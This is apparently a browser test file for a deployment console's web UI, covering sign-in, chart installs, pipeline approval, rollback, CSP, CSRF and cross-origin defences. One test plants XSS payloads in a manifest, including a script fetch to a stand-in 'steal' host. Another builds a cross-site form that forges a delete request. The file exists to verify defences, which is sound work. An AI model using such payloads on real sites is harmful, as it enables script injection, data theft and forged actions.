// The web console in a real browser (Debian's Chromium, headless) against a
// real plinthd running the SIMULATED engine: sign in, install a chart
// through the wizard, watch the DAG turn green, read a node's log, approve a
// gated pipeline, roll back, sign out; hostile manifests shown as text;
// CSRF, cross-origin requests and inline script refused.
//
//   node tests/browser/console_test.mjs [OUT_DIR]   (screenshots go to OUT_DIR)
import assert from 'node:assert/strict';
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import {ROOT, TOKENS, startDaemon, launchBrowser, signIn} from './harness.mjs';

const OUT = path.resolve(process.argv[2] || path.join(ROOT, 'build/test-output/browser'));
fs.mkdirSync(OUT, {recursive: true});

let failures = 0;
let passed = 0;
async function step(name, f) {
  const t0 = Date.now();
  try {
    await f();
    passed++;
    console.log(`ok   ${name} (${Date.now() - t0} ms)`);
  } catch (err) {
    failures++;
    console.log(`FAIL ${name}: ${err.stack || err}`);
  }
}

async function shot(page, name) {
  await page.screenshot({path: path.join(OUT, `${name}.png`), fullPage: true});
}

// The example chart with its first param made required (no value), under
// another name: the wizard must show the server's message for it.
function requiredParamChart() {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'plinth-chart-'));
  const src = path.join(ROOT, 'examples/charts/local-demo');
  fs.cpSync(src, dir, {recursive: true});
  const values = fs.readFileSync(path.join(dir, 'values.yaml'), 'utf8');
  assert.ok(values.includes('    value: shop\n'));
  fs.writeFileSync(path.join(dir, 'values.yaml'), values.replace('    value: shop\n', ''));
  const chart = fs.readFileSync(path.join(dir, 'Chart.yaml'), 'utf8');
  fs.writeFileSync(path.join(dir, 'Chart.yaml'), chart.replace('name: local-demo', 'name: console-demo'));
  // The simulated engine takes a moment per plan and apply, so that the
  // pipeline's progress can be seen.
  for (const f of fs.readdirSync(path.join(dir, 'templates'))) {
    const p = path.join(dir, 'templates', f);
    fs.writeFileSync(p, fs.readFileSync(p, 'utf8').replaceAll('\nmetadata:\n',
      "\nmetadata:\n  annotations: {sim.plinth.dev/sleep-seconds: '0.25'}\n"));
  }
  return dir;
}

const daemon = await startDaemon();
const browser = await launchBrowser();
const context = await browser.newContext({viewport: {width: 1500, height: 950}});
const requestsOut = [];
const dialogs = [];
const pageErrors = [];
context.on('request', (req) => {
  const u = new URL(req.url());
  if (u.host !== daemon.http && !req.url().startsWith('data:')) requestsOut.push(req.url());
});
context.on('page', (p) => {
  p.on('dialog', (d) => { dialogs.push(d.message()); d.dismiss(); });
  p.on('pageerror', (e) => pageErrors.push(String(e)));
});

const chartDir = requiredParamChart();
daemon.cli(['chart', 'push', chartDir]);
let page;

try {
  await step('the console is served with a CSP that allows no inline script', async () => {
    const res = await fetch(daemon.url + '/');
    assert.equal(res.status, 200);
    const csp = res.headers.get('content-security-policy');
    assert.match(csp, /script-src 'self'/);
    assert.doesNotMatch(csp, /unsafe-inline|unsafe-eval/);
    assert.match(csp, /frame-ancestors 'none'/);
    const html = await res.text();
    assert.doesNotMatch(html, /<script>(?!<\/script>)|<script(?![^>]*\bsrc=)[^>]*>[^<]/, 'no inline script in index.html');
  });

  await step('a wrong token is refused; the right one signs in', async () => {
    page = await context.newPage();
    await page.goto(daemon.url + '/');
    await page.waitForSelector('#token');
    await shot(page, '01-sign-in');
    await page.fill('#token', 'not-a-token-at-all-000');
    await page.click('#sign-in');
    await page.waitForSelector('.signin .error');
    assert.match(await page.textContent('.signin .error'), /not valid/);
    await page.fill('#token', TOKENS.admin);
    await page.click('#sign-in');
    await page.waitForSelector('nav.bar .who');
    assert.equal(await page.textContent('nav.bar .who'), 'admin');
    const cookies = await context.cookies();
    const session = cookies.find(c => c.name === 'plinth_session');
    assert.ok(session, 'a session cookie');
    assert.equal(session.httpOnly, true);
    assert.equal(session.sameSite, 'Strict');
    assert.equal(await page.evaluate(() => document.cookie), '', 'the page script cannot read the cookie');
    await page.waitForSelector('body[data-page^="overview"]');
    await shot(page, '02-overview-empty');
  });

  await step('the chart catalog lists the pushed chart', async () => {
    await page.goto(daemon.url + '/#/charts');
    await page.waitForSelector('.card');
    assert.match(await page.textContent('.cards'), /console-demo/);
    await shot(page, '03-charts');
  });

  await step('the wizard shows the server\'s message for an empty required param, then previews', async () => {
    await page.click('.card a.btn');
    await page.waitForSelector('form.wizard');
    // Every param has an input of its type.
    assert.equal(await page.getAttribute('#param-api_replicas', 'type'), 'number');
    assert.equal(await page.getAttribute('#param-enable_cache', 'type'), 'checkbox');
    assert.equal(await page.evaluate(() => document.querySelector('#param-db_size').tagName), 'SELECT');
    assert.ok(await page.isVisible('.field.required[data-param="app"] .req'), 'app is marked required');
    await page.fill('#install-name', 'shop');
    await page.click('#preview');
    await page.waitForSelector('.field[data-param="app"] .field-error:not(:empty)');
    // The server's own words, under the field they are about.
    const message = await page.textContent('.field[data-param="app"] .field-error');
    assert.match(message, /required/);
    const problems = await page.textContent('.problems');
    assert.match(problems, /invalid argument/i);
    assert.match(problems, /\bapp\b/);
    await shot(page, '04-wizard-required');
    await page.fill('#param-app', 'shop');
    await page.click('#preview');
    await page.waitForSelector('.preview svg.dag .node');
    const previewNodes = await page.$$eval('.preview svg.dag .node', ns => ns.length);
    assert.ok(previewNodes >= 6, `preview shows the graph (${previewNodes} nodes)`);
    assert.match(await page.textContent('.preview'), /nothing is stored yet/);
    await shot(page, '05-wizard-preview');
    // Nothing was stored by the preview.
    const projects = JSON.parse(daemon.cli(['project', 'list', '-o', 'json']) || '[]');
    assert.equal((projects.projects || projects).length || 0, 0);
  });

  await step('Create and deploy lands on the live project page; the DAG turns green node by node', async () => {
    // Record every node state change the page shows, with its time, from
    // before the click on.
    await page.evaluate(() => {
      window.__states = [];
      const seen = new Map();
      const record = () => {
        for (const n of document.querySelectorAll('.dag-host svg.dag .node')) {
          const st = [...n.classList].find(c => c.startsWith('st-'));
          if (seen.get(n.dataset.key) !== st) {
            seen.set(n.dataset.key, st);
            window.__states.push({key: n.dataset.key, st, t: performance.now()});
          }
        }
      };
      new MutationObserver(record).observe(document.body, {subtree: true, attributes: true, childList: true});
    });
    await page.click('#create-deploy');
    await page.waitForSelector('body[data-page^="overview:/projects/acme/dev/shop"]');
    await page.waitForSelector('.dag-host svg.dag .node');
    const total = await page.$$eval('.dag-host svg.dag .node', ns => ns.length);
    await page.waitForFunction((n) => document.querySelectorAll('.dag-host svg.dag .node.st-succeeded').length === n,
                               total, {timeout: 120000});
    const states = await page.evaluate(() => window.__states);
    const times = states.filter(s => s.st === 'st-succeeded').map(s => Math.round(s.t));
    assert.equal(new Set(states.filter(s => s.st === 'st-succeeded').map(s => s.key)).size, total);
    assert.ok(new Set(times).size >= 3, `nodes turned green at several moments, not at once (${JSON.stringify(times)})`);
    assert.ok(states.some(s => s.st === 'st-running' || s.st === 'st-queued'), 'running or queued states were shown');
    // Groups are drawn as boxes.
    assert.ok(await page.$$eval('.dag-host svg.dag rect.group', r => r.length) >= 2, 'metadata.group boxes');
    await shot(page, '06-project-dag-green');
  });

  await step('a node opens its manifest, outputs, history and its latest job\'s log', async () => {
    await page.click('.dag-host svg.dag .node[data-key="dev/KubernetesPostgres/shop-db"]');
    await page.waitForSelector('aside.side pre.yaml');
    const side = await page.textContent('aside.side');
    assert.match(side, /KubernetesPostgres/);
    assert.match(side, /Outputs/);
    assert.match(side, /History/);
    await page.waitForFunction(() => (document.querySelector('aside.side pre.log') || {}).textContent?.length > 20,
                               null, {timeout: 20000});
    assert.match(await page.textContent('aside.side pre.log'), /\S/);
    await shot(page, '07-project-node-log');
  });

  await step('a gated pipeline is approved in the browser and runs', async () => {
    // A second project whose pipelines wait for an approval before they start.
    daemon.cli(['chart', 'install', 'gated', chartDir, '--org', 'acme', '--env', 'dev', '--manual-gate', '--set', 'app=gated']);
    await page.goto(daemon.url + '/#/');
    await page.waitForSelector('body[data-page="overview:/"]');
    await page.waitForSelector('text=Waiting for approval');
    await page.waitForSelector('section.panel:first-of-type table a[href^="#/pipelines/"]');
    await shot(page, '08-overview');
    await page.click('section.panel:first-of-type table a[href^="#/pipelines/"]');
    await page.waitForSelector('[data-gate="pipeline"]');
    await shot(page, '08-pipeline-gate');
    assert.match(await page.textContent('main'), /waits for an approval/);
    await page.click('[data-gate="pipeline"]');
    await page.fill('.dialog textarea', 'looks right <b>to me</b>');
    await page.click('.dialog button[type=submit]');
    await page.waitForFunction(() => /succeeded/.test(document.querySelector('.page-head dl')?.textContent || ''),
                               null, {timeout: 120000});
    const decisions = await page.textContent('body');
    assert.match(decisions, /looks right <b>to me<\/b>/, 'the message is shown as text');
    // A node's job log from the pipeline page.
    await page.click('button[data-job]');
    await page.waitForFunction(() => /Apply complete!/.test((document.querySelector('pre.log') || {}).textContent || ''),
                               null, {timeout: 20000});
    assert.doesNotMatch(await page.textContent('pre.log'), /\{"@level"/, 'the engine\'s JSON lines read as messages');
    await shot(page, '09-pipeline-approved');
  });

  await step('a waiting pipeline is cancelled from its page', async () => {
    daemon.cli(['project', 'run-pipeline', 'gated', '--org', 'acme', '--env', 'dev']);
    const last = JSON.parse(daemon.cli(['pipeline', 'last', 'gated', '--org', 'acme', '--env', 'dev', '-o', 'json']));
    await page.goto(`${daemon.url}/#/pipelines/${last.id}`);
    await page.waitForSelector('[data-gate="pipeline"]');
    await page.click('.page-head button.danger');
    await page.click('.dialog button[type=submit]');
    await page.waitForFunction(() => /cancelled/.test(document.querySelector('.page-head dl')?.textContent || ''),
                               null, {timeout: 30000});
    const after = JSON.parse(daemon.cli(['pipeline', 'get', last.id, '-o', 'json']));
    assert.equal(after.state, 'cancelled');
  });

  await step('roll back to revision 1 from the revisions tab', async () => {
    daemon.cli(['project', 'update', 'shop', '--org', 'acme', '--env', 'dev', '--set', 'api_replicas=3', '--wait']);
    await page.goto(daemon.url + '/#/projects/acme/dev/shop');
    await page.waitForSelector('.tabs .tab');
    await page.click('.tabs .tab:nth-child(2)');
    await page.waitForSelector('button[data-rollback="1"]');
    await page.click('text=Diff');
    await page.waitForSelector('pre.diff .add, pre.diff .del');
    await shot(page, '10-revisions-diff');
    await page.click('button[data-rollback="1"]');
    await page.click('.dialog button[type=submit]');
    await page.waitForFunction(() => /rollback/.test(document.querySelector('.pipeline-line')?.textContent || ''), null,
                               {timeout: 30000});
    await page.waitForFunction(() => /succeeded/.test(document.querySelector('.pipeline-line')?.textContent || ''), null,
                               {timeout: 120000});
    const project = JSON.parse(daemon.cli(['project', 'get', 'shop', '--org', 'acme', '--env', 'dev', '-o', 'json']));
    assert.equal(Number(project.revision), 3);
  });

  await step('undeploy needs the project\'s name typed', async () => {
    await page.goto(daemon.url + '/#/projects/acme/dev/shop');
    await page.waitForSelector('.page-head .actions .btn.danger');
    await page.click('.page-head .actions .btn.danger');
    await page.waitForSelector('.dialog input.typed');
    assert.equal(await page.isDisabled('.dialog button[type=submit]'), true);
    await page.fill('.dialog input.typed', 'sho');
    assert.equal(await page.isDisabled('.dialog button[type=submit]'), true);
    await page.fill('.dialog input.typed', 'shop');
    assert.equal(await page.isDisabled('.dialog button[type=submit]'), false);
    await page.click('.dialog button[type=button]');  // cancel: nothing happens
    const project = JSON.parse(daemon.cli(['project', 'get', 'shop', '--org', 'acme', '--env', 'dev', '-o', 'json']));
    assert.notEqual(project.lastPipeline.kind, 'undeploy');
  });

  await step('resources, jobs and connections lists; connections show no secret values', async () => {
    daemon.cli(['connection', 'create', 'acme/cloud', '--provider', 'aws', '--field', 'region=eu-west-1', '--field', 'access_key_id=AKIAEXAMPLE',
                '--secret', 'secret_access_key=SUPER-SECRET-VALUE-123']);
    await page.goto(daemon.url + '/#/resources?org=acme&kind=KubernetesPostgres&label=app%3Dshop');
    await page.waitForSelector('body[data-page="resources:/resources"]');
    const rows = await page.$$eval('table.list tbody tr', r => r.length);
    assert.equal(rows, 1, 'the kind and label filters keep one resource');
    await shot(page, '11-resources');
    await page.click('table.list tbody a');
    await page.waitForSelector('pre.yaml');
    // The API deployment changed with api_replicas: its revisions differ.
    await page.goto(daemon.url + '/#/resources/acme/dev/KubernetesDeployment/shop-api');
    await page.waitForSelector('text=Show diff');
    await page.click('text=Show diff');
    await page.waitForSelector('pre.diff');
    await shot(page, '12-resource');
    await page.goto(daemon.url + '/#/jobs');
    await page.waitForSelector('body[data-page="jobs:/jobs"]');
    assert.ok(await page.$$eval('table.list tbody tr', r => r.length) >= 8);
    await shot(page, '13-jobs');
    await page.click('table.list tbody a[href^="#/jobs/"]');
    await page.waitForSelector('body[data-page^="jobs:/jobs/"]');
    await page.waitForFunction(() => (document.querySelector('pre.log') || {}).textContent?.length > 20, null, {timeout: 20000});
    assert.match(await page.textContent('main'), /Operation/);
    await shot(page, '13-job');
    await page.goto(daemon.url + '/#/connections');
    await page.waitForSelector('body[data-page="connections:/connections"]');
    const text = await page.textContent('main');
    assert.match(text, /secret_access_key=••••••/);
    assert.doesNotMatch(text, /SUPER-SECRET/);
    assert.doesNotMatch(await page.content(), /SUPER-SECRET/);
    await shot(page, '14-connections');
  });

  await step('a manifest full of markup is shown as text: no script runs, no request leaves', async () => {
    const evil = path.join(daemon.dir, 'evil.yaml');
    fs.writeFileSync(evil, [
      'apiVersion: kubernetes.planton.dev/v1',
      'kind: KubernetesNamespace',
      'metadata:',
      '  name: \'"><img src=x onerror=alert(1)>\'',
      '  labels: {team: payments}',
      '  annotations:',
      '    note: \'<script>alert(2)</script>\'',
      '    more: \'"><svg onload=alert(3)><iframe src="javascript:alert(4)">\'',
      'spec:',
      '  name: \'<script>fetch("http://203.0.113.9/steal")</script>\'',
      '  labels: {x: \'<img src="http://203.0.113.9/pixel.png">\'}',
      '',
    ].join('\n'));
    daemon.cli(['apply', '-f', evil, '--org', 'acme', '--env', 'dev']);
    const before = requestsOut.length;
    await page.goto(daemon.url + '/#/resources?org=acme&kind=KubernetesNamespace');
    await page.waitForSelector('body[data-page="resources:/resources"]');
    assert.match(await page.textContent('table.list'), /"><img src=x onerror=alert\(1\)>/);
    await page.click('table.list a:has-text("onerror")');
    await page.waitForSelector('pre.yaml');
    const yaml = await page.textContent('pre.yaml');
    assert.match(yaml, /<script>alert\(2\)<\/script>/);
    assert.match(yaml, /203\.0\.113\.9\/steal/);
    await page.waitForTimeout(500);
    await shot(page, '15-hostile-manifest');
    const injected = await page.evaluate(() => ({
      scripts: document.querySelectorAll('script').length,
      imgs: [...document.querySelectorAll('img')].filter(i => !i.src.endsWith('/ui/favicon.svg')).length,
      iframes: document.querySelectorAll('iframe, svg[onload], [onerror]').length,
    }));
    assert.deepEqual(injected, {scripts: 1, imgs: 0, iframes: 0});
    assert.deepEqual(dialogs, [], 'no dialog fired');
    assert.deepEqual(requestsOut.slice(before), [], 'no request left for another host');
  });

  await step('inline script is blocked by the CSP', async () => {
    const ran = await page.evaluate(() => new Promise((resolve) => {
      window.__inline = false;
      const s = document.createElement('script');
      s.textContent = 'window.__inline = true';
      document.body.appendChild(s);
      setTimeout(() => resolve(window.__inline), 100);
    }));
    assert.equal(ran, false);
  });

  await step('a state-changing call without the session\'s CSRF token is refused and changes nothing', async () => {
    const res = await page.evaluate(async () => {
      const r = await fetch('/ui/api/plinth.v1.InfraProjectService/DeleteInfraProject', {
        method: 'POST', headers: {'Content-Type': 'application/json'},
        body: JSON.stringify({project: {org: 'acme', env: 'dev', name: 'shop'}}),
      });
      return {status: r.status, body: await r.json()};
    });
    assert.equal(res.status, 403);
    assert.match(res.body.message, /CSRF/);
    daemon.cli(['project', 'get', 'shop', '--org', 'acme', '--env', 'dev']);  // still there
  });

  await step('another site\'s page cannot act with the session', async () => {
    // A page on another origin (localhost instead of 127.0.0.1: another site).
    const evil = http.createServer((req, res) => {
      res.writeHead(200, {'Content-Type': 'text/html'});
      res.end(`<!doctype html><p>evil</p><form id=f method=POST enctype="text/plain"
        action="http://${daemon.http}/ui/api/plinth.v1.InfraProjectService/DeleteInfraProject">
        <input name='{"project":{"org":"acme","env":"dev","name":"shop"},"x":"' value='"}'></form>`);
    });
    await new Promise(r => evil.listen(0, '127.0.0.1', r));
    const port = evil.address().port;
    const other = await context.newPage();
    await other.goto(`http://localhost:${port}/`);
    const fetched = await other.evaluate(async (target) => {
      try {
        const r = await fetch(target, {method: 'POST', credentials: 'include', body: '{}'});
        return r.status;
      } catch (e) {
        return 'blocked';
      }
    }, `http://${daemon.http}/ui/api/plinth.v1.InfraProjectService/DeleteInfraProject`);
    assert.ok(fetched === 'blocked' || fetched === 401 || fetched === 403, `cross-site fetch: ${fetched}`);
    const [response] = await Promise.all([
      other.waitForNavigation().catch(() => null),
      other.evaluate(() => document.getElementById('f').submit()),
    ]);
    if (response) assert.ok([401, 403].includes(response.status()), `cross-site form post: ${response.status()}`);
    await other.close();
    evil.close();
    daemon.cli(['project', 'get', 'shop', '--org', 'acme', '--env', 'dev']);  // still there
  });

  await step('a viewer sees only what its grants allow', async () => {
    daemon.cli(['grant', 'create', 'viewer', '--role', 'viewer', '--scope', 'acme/dev/KubernetesPostgres/shop-db']);
    const ctx2 = await browser.newContext({viewport: {width: 1400, height: 900}});
    const vp = await signIn(ctx2, daemon.url, TOKENS.viewer);
    await vp.goto(daemon.url + '/#/resources');
    await vp.waitForSelector('body[data-page="resources:/resources"]');
    const names = await vp.$$eval('table.list tbody tr td:nth-child(2)', tds => tds.map(t => t.textContent));
    assert.deepEqual(names, ['shop-db']);
    await vp.goto(daemon.url + '/#/projects/acme/dev/shop');
    await vp.waitForSelector('.error');
    assert.match(await vp.textContent('.error'), /permission denied/i);
    await shot(vp, '16-viewer-refused');
    await ctx2.close();
  });

  await step('sign out: the session is gone and the API refuses it', async () => {
    await page.goto(daemon.url + '/#/');
    await page.waitForSelector('#sign-out');
    const cookieBefore = (await context.cookies()).find(c => c.name === 'plinth_session').value;
    await page.click('#sign-out');
    await page.waitForSelector('#token');
    await shot(page, '17-signed-out');
    const res = await fetch(daemon.url + '/ui/api/plinth.v1.InfraProjectService/ListInfraProjects', {
      method: 'POST', headers: {Cookie: `plinth_session=${cookieBefore}`, 'Content-Type': 'application/json'}, body: '{}',
    });
    assert.equal(res.status, 401, 'the old session cookie is refused');
    await page.goto(daemon.url + '/#/charts');
    await page.waitForSelector('#token');
  });

  await step('no page error happened', async () => {
    assert.deepEqual(pageErrors, []);
  });
} finally {
  await browser.close();
  await daemon.stop();
  fs.rmSync(chartDir, {recursive: true, force: true});
}

console.log(`\n${passed} passed, ${failures} failed; screenshots in ${OUT}`);
process.exit(failures ? 1 : 0);
